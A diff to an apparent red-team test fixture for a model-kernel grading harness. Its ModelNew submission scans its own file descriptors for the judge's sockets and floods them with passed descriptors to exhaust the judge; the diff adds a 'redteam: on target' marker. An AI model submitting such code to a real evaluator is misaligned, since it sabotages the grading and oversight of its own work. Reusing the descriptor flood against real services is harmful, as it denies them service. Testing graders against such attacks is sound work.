@@ -1,14 +1,20 @@
 """Sends open files with every byte of an endless message on its judge's sockets, until the judge has no descriptor left for its
 next candidate. Unsolicited descriptors are not taken or are closed at once."""
-# case: reference=rows_softmax device=any backend=cpp expect=unflattered
+# case: reference=rows_softmax device=any backend=cpp expect=unflattered target=here
 
 import array
+import functools
 import os
 import socket
 import stat
 
 import torch
 import torch.nn as nn
+
+
+@functools.cache
+def reached():
+    print("redteam: on target", flush=True)
 
 
 def flood(number):
@@ -35,6 +41,7 @@ class ModelNew(nn.Module):
             for entry in os.listdir("/proc/self/fd"):
                 try:
                     if int(entry) > 2 and stat.S_ISSOCK(os.fstat(int(entry)).st_mode):
+                        reached()
                         flood(int(entry))
                 except OSError:
                     continue
